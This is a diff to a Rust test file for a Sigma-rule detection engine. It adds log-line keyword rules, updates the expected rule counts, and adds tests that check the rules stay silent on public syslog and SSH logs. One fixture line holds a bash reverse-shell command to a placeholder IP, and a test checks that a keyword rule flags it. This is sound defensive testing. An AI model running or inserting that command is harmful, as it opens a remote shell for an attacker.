@@ -88,6 +88,7 @@ fn every_dev_rule_loads_or_is_rejected_with_a_reason() {
 
 const EXPECTED_LOADED: &[(&str, usize)] = &[
     ("file_event", 18),
+    ("log_line", 27),
     ("network_connection", 2),
     ("process_creation", 141),
 ];
@@ -95,16 +96,7 @@ const EXPECTED_REJECTED: &[(&str, usize)] = &[
     ("unmapped field CurrentDirectory", 1),
     ("unmapped field DestinationHostname", 3),
     ("unmapped field LogonId", 2),
-    ("unsupported logsource linux without category", 16),
     ("unsupported logsource service auditd", 54),
-    ("unsupported logsource service auth", 1),
-    ("unsupported logsource service clamav", 1),
-    ("unsupported logsource service cron", 1),
-    ("unsupported logsource service guacamole", 1),
-    ("unsupported logsource service sshd", 3),
-    ("unsupported logsource service sudo", 1),
-    ("unsupported logsource service syslog", 2),
-    ("unsupported logsource service vsftpd", 1),
 ];
 
 /// Self-check of the field mapping: for every loaded rule, an event generated from its
@@ -128,7 +120,7 @@ fn every_loaded_rule_fires_on_an_event_built_from_its_selections() {
             let Some(w) = wanted(rule, &sels) else {
                 continue;
             };
-            let Some((ev, procs, users)) = synthesize(rule.category, &w) else {
+            let Some((ev, procs, users)) = synthesize(rule, &w) else {
                 continue;
             };
             generated = true;
@@ -155,7 +147,7 @@ fn every_loaded_rule_fires_on_an_event_built_from_its_selections() {
     for f in &missed {
         println!("  missed {f}");
     }
-    assert_eq!(fired + regex_only.len() + missed.len(), 161);
+    assert_eq!(fired + regex_only.len() + missed.len(), 188);
     assert!(
         missed.is_empty(),
         "rules that did not fire on their own selections: {missed:?}"
@@ -315,4 +307,90 @@ fn fixtures_fire_their_rule_exactly() {
         pos >= 5 && neg >= 5,
         "{pos} positive, {neg} negative fixtures"
     );
+}
+
+/// The keyword rules over two real logs (loghub `Linux_2k.log`, a host's syslog with auth
+/// lines, and `OpenSSH_2k.log`, a server under brute force): how many lines each rule flags.
+/// None fires: these logs hold failed logins and brute force (our own detectors' business),
+/// none of the exploit, tampering or malformed-protocol text the keyword rules look for. The
+/// fixtures above prove each scope and keyword form fires; this proves the rules stay quiet on
+/// 4,000 ordinary lines.
+#[test]
+fn keyword_rules_over_real_logs() {
+    use innerwarden_core::decode::authlog::{LineContext, split_syslog};
+    use innerwarden_core::event::LogLine;
+    let Some(set) = load() else { return };
+    let logs = sigma_dir().join("../loghub");
+    let d = SigmaDetector::new(set, HashMap::new());
+    let ctx = LineContext::new(ts(), Source::Authlog);
+    let procs = ProcessTable::default();
+    let mut hits: std::collections::BTreeMap<String, usize> = Default::default();
+    let mut lines = 0;
+    for f in ["Linux/Linux_2k.log", "OpenSSH/OpenSSH_2k.log"] {
+        let Ok(text) = std::fs::read_to_string(logs.join(f)) else {
+            println!("skipped: {} not found", logs.join(f).display());
+            return;
+        };
+        for l in text.lines() {
+            let Ok(s) = split_syslog(l, &ctx) else {
+                continue;
+            };
+            lines += 1;
+            let program = s.program.split('(').next().unwrap_or(s.program);
+            let ev = Event::new(
+                s.ts,
+                Source::Authlog,
+                EventKind::LogLine(LogLine {
+                    service: program.to_owned(),
+                    pid: s.pid,
+                    facility: None,
+                    message: s.message.to_owned(),
+                }),
+            );
+            for r in d.matching(&ev, &procs) {
+                *hits.entry(r.title.clone()).or_default() += 1;
+            }
+        }
+    }
+    println!("{lines} log lines");
+    for (t, n) in &hits {
+        println!("  {n:>4}  {t}");
+    }
+    assert!(lines > 3_900, "{lines} lines parsed");
+    let got: Vec<(&str, usize)> = hits.iter().map(|(k, v)| (k.as_str(), *v)).collect();
+    assert_eq!(got, EXPECTED_LOG_HITS);
+}
+
+const EXPECTED_LOG_HITS: &[(&str, usize)] = &[];
+
+#[test]
+fn a_log_line_rule_ignores_other_events_and_an_exec_rule_ignores_log_lines() {
+    use innerwarden_core::event::LogLine;
+    let Some(set) = load() else { return };
+    let d = SigmaDetector::new(set, HashMap::new());
+    let procs = ProcessTable::default();
+    let line = |msg: &str| {
+        Event::new(
+            ts(),
+            Source::Journald,
+            EventKind::LogLine(LogLine {
+                service: "bash".into(),
+                pid: Some(5),
+                facility: Some(1),
+                message: msg.into(),
+            }),
+        )
+    };
+    // A reverse shell's text in a log line fires the keyword rule only.
+    let hits: Vec<String> = d
+        .matching(&line("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), &procs)
+        .iter()
+        .map(|r| r.file.clone())
+        .collect();
+    assert!(!hits.is_empty());
+    assert!(
+        hits.iter().all(|f| f.starts_with("rules/linux/builtin/")),
+        "{hits:?}"
+    );
+    assert!(d.matching(&line("GET /index.html 200"), &procs).is_empty());
 }
